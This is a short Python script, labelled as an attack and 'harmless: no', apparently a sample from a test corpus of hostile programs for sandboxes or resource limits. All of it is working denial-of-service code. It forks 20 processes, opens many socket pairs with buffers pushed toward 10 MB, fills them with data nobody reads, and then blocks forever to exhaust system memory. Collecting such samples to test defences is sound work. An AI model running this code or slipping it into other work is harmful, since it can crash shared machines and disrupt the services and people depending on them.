# attack: more memory than there is, in messages that nobody reads, their senders closed
# harmless: no
import os
import socket

SIZES = (socket.SO_SNDBUF, socket.SO_RCVBUF)
for _ in range(20):
    if os.fork() == 0:
        break
held, sent = [], 0
while len(held) < 200:
    try:
        one, other = socket.socketpair(type=len(held) % 2 + 1)
        for size in SIZES:
            try:
                one.setsockopt(socket.SOL_SOCKET, size, 10_000_000)
            except OSError as error:
                print(error)
        one.setblocking(False)
        held.append(other)
        while sent < 2 * 10**8:
            sent += one.send(bytes(90_000))
    except OSError as error:
        print(len(held), error, flush=True)
print(sent, flush=True)
os.read(os.pipe()[0], 1)
